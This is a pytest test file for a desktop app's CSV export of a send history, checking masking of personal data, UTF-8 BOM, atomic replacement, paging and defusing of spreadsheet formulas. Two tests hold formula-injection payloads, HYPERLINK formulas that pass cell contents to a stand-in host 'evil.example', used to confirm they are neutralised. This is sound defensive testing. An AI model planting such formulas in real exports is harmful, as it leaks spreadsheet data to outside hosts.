"""CSV export of the history: with or without personal data, safe in a spreadsheet, atomic."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pytest

from cg_desktop.core.store import export
from cg_desktop.core.store.export import ANSWER_COLUMN, COLUMNS, export_csv
from cg_desktop.core.store.retention import DAY, purge_personal_data
from cg_desktop.core.store.sends import Status, Store

T0 = 1_700_000_000.0


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    """A store with a delivered, a rejected and a queued send, made a minute apart."""
    now = [T0]
    store = Store(tmp_path / "sends.db", clock=lambda: now[0])
    delivered = store.enqueue(
        profile="Trade show",
        region="eu",
        configuration="conf",
        record={"Email": "zoë.export@example.com", "First Name": "Zoë", "Comment": 'a, "b"\nc'},
        contact="zoë.export@example.com",
    )
    store.claim(delivered)
    store.mark(
        delivered,
        Status.DELIVERED,
        message="Sent. CustomerGauge accepted the record and will send the survey.",
        http_status=200,
        server_answer='{"echo": "zoë.export@example.com"}',
        cg_id="CG-1",
    )
    now[0] += 60
    rejected = store.enqueue(
        profile="Trade show",
        region="us",
        configuration="conf",
        record={"Phone": "+44 7700 900389"},
        contact="+44 7700 900389",
    )
    store.mark(rejected, Status.REJECTED, message="Not accepted: +44 7700 900389 is not valid.")
    now[0] += 60
    store.enqueue(
        profile="Desk",
        region="au",
        configuration="c",
        record={"Email": "q@example.com"},
        contact="q@example.com",
    )
    yield store
    store.close()


def test_export_with_personal_data_has_every_send_newest_first(
    store: Store, tmp_path: Path
) -> None:
    target = tmp_path / "history.csv"
    assert export_csv(store, target, personal=True) == 3
    rows = read_csv(target)
    store.close()
    # A column per field (in the order first met, newest send first), then the answer.
    assert rows[0] == [*COLUMNS, "Email", "Phone", "First Name", "Comment", ANSWER_COLUMN]
    assert [r[1] for r in rows[1:]] == ["Desk", "Trade show", "Trade show"]
    queued, rejected, delivered = rows[1:]
    assert delivered == [
        datetime.fromtimestamp(T0).astimezone().isoformat(timespec="seconds"),
        "Trade show",
        "Europe",
        "Delivered",
        "1",
        "zoë.export@example.com",
        "CG-1",
        "Sent. CustomerGauge accepted the record and will send the survey.",
        "zoë.export@example.com",
        "",
        "Zoë",
        'a, "b"\nc',
        '{"echo": "zoë.export@example.com"}',
    ]
    assert rejected[9] == "'+44 7700 900389"  # the Phone column, defused too
    assert datetime.fromisoformat(delivered[0]).timestamp() == T0
    # A phone starts with "+": a formula to a spreadsheet, so it is defused.
    assert rejected[5] == "'+44 7700 900389"
    assert (queued[3], queued[4], queued[6]) == ("Waiting", "0", "")


def test_export_without_personal_data_masks_the_contact_and_leaves_the_record_out(
    store: Store, tmp_path: Path
) -> None:
    target = tmp_path / "history.csv"
    assert export_csv(store, target, personal=False) == 3
    text = target.read_text(encoding="utf-8-sig")
    rows = read_csv(target)
    store.close()
    assert rows[0] == list(COLUMNS)
    assert all(len(row) == len(COLUMNS) for row in rows)
    assert [row[5] for row in rows[1:]] == ["q***@example.com", "*******89", "z***@example.com"]
    # The message quoted the phone: masked there too.
    assert rows[2][7] == "Not accepted: *******89 is not valid."
    for personal in ("zoë.export", "Zoë", "7700 900389", "900389", "echo"):
        assert personal not in text


def test_export_of_a_purged_send_keeps_its_mask(tmp_path: Path) -> None:
    store = Store(tmp_path / "sends.db", clock=lambda: T0)
    send_id = store.enqueue(
        profile="P",
        region="eu",
        configuration="c",
        record={"Phone": "0612345689"},
        contact="0612345689",
    )
    store.mark(send_id, Status.DELIVERED)
    purge_personal_data(store, 1, T0 + 2 * DAY)
    for personal in (True, False):
        export_csv(store, tmp_path / "out.csv", personal=personal)
        row = read_csv(tmp_path / "out.csv")[1]
        assert row[5] == "*******89"
    assert row[5:] == ["*******89", "", ""]
    store.close()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_as_formulas_are_defused(tmp_path: Path, start: str) -> None:
    store = Store(tmp_path / "sends.db")
    evil = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    store.enqueue(profile=evil, region="eu", configuration="c", record={"Name": evil}, contact=evil)
    store.mark(1, Status.FAILED, message=evil, server_answer=evil)
    export_csv(store, tmp_path / "out.csv", personal=True)
    row = read_csv(tmp_path / "out.csv")[1]
    store.close()
    assert row[1] == "'" + evil  # profile
    assert row[5] == "'" + evil  # contact
    assert row[7] == "'" + evil  # message
    assert row[8] == "'" + evil  # the record's Name field, a column of its own
    assert row[9] == "'" + evil  # server's answer
    assert row[2] == "Europe"  # ordinary values are untouched


def test_a_field_key_that_looks_like_a_formula_is_defused_in_the_header(tmp_path: Path) -> None:
    store = Store(tmp_path / "sends.db")
    key = '=HYPERLINK("http://evil.example/","x")'  # from a profile file someone handed out
    store.enqueue(profile="p", region="eu", configuration="c", record={key: "v"}, contact="c")
    export_csv(store, tmp_path / "out.csv", personal=True)
    header = read_csv(tmp_path / "out.csv")[0]
    store.close()
    assert "'" + key in header and key not in header


def test_export_pages_through_a_long_history(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "_PAGE", 3)
    store = Store(tmp_path / "sends.db")
    for i in range(8):
        store.enqueue(profile=f"P{i}", region="eu", configuration="c", record={})
    assert export_csv(store, tmp_path / "out.csv", personal=False) == 8
    store.close()
    assert [r[1] for r in read_csv(tmp_path / "out.csv")[1:]] == [f"P{i}" for i in range(7, -1, -1)]


def test_an_empty_history_exports_the_header_only(tmp_path: Path) -> None:
    store = Store(tmp_path / "sends.db")
    assert export_csv(store, tmp_path / "out.csv", personal=False) == 0
    store.close()
    assert read_csv(tmp_path / "out.csv") == [list(COLUMNS)]


def test_a_failed_export_leaves_the_previous_file_and_no_temporary_one(tmp_path: Path) -> None:
    target = tmp_path / "out" / "history.csv"
    target.parent.mkdir()
    target.write_text("the previous export", encoding="utf-8")
    store = Store(tmp_path / "sends.db")
    store.enqueue(profile="P", region="eu", configuration="c", record={})
    store.close()  # reading from a closed store fails half-way through the export
    with pytest.raises(Exception, match="closed"):
        export_csv(store, target, personal=True)
    assert [p.name for p in target.parent.iterdir()] == ["history.csv"]
    assert target.read_text(encoding="utf-8") == "the previous export"


def test_an_export_replaces_the_previous_file(store: Store, tmp_path: Path) -> None:
    target = tmp_path / "history.csv"
    target.write_text("old", encoding="utf-8")
    export_csv(store, target, personal=False)
    store.close()
    assert len(read_csv(target)) == 4
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
